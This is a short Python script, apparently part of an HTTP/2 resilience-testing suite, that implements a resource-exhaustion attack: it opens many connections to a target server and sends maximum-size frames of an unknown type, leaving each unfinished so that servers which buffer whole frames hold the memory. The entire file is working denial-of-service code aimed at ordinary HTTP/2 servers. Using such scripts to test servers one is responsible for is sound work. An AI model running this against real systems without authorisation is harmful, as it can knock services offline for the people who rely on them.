"""Frames of the largest size the server announced (SETTINGS_MAX_FRAME_SIZE), of an unknown type
that a server must accept and ignore (RFC 9113 section 4.1), sent but for their last byte and held.

A server that buffers a whole frame before looking at its type holds --connections frames of that
size; one that skips what it ignores holds nothing.
"""
import time

import attack
import h2frames as f

UNKNOWN_TYPE = 0x20


def main():
    p = attack.parser(__doc__, duration=3.0, connections=64, rate=200.0, rate_help="connections opened per second")
    args = p.parse_args()
    report = attack.Report("max-size-frames", args)
    pool = attack.Pool()
    started = time.monotonic()
    payloads = {}
    for i in range(args.connections):
        if report.elapsed() >= args.duration:
            break
        connection = attack.connect(args.target, report, ack_settings=True)
        if connection is None:
            continue
        if connection.start():
            size = connection.max_frame_size() if connection.wait_for_settings(timeout=1.0) else f.DEFAULT_MAX_FRAME_SIZE
            if size not in payloads:
                payloads[size] = f.frame_header(UNKNOWN_TYPE, 0, 0, size) + bytes(size - 1)
            if connection.send(payloads[size], timeout=2.0):
                report.sent["frame bytes held unfinished"] += size - 1
                pool.add(connection)
        attack.pace(args.rate, started, i + 1)
    while report.elapsed() < args.duration:
        pool.drain(wait=0.05)
    report.notes.append(f"{pool.open_count()} of {len(pool.connections)} still open at the end")
    pool.close_all()
    report.finish()


if __name__ == "__main__":
    main()
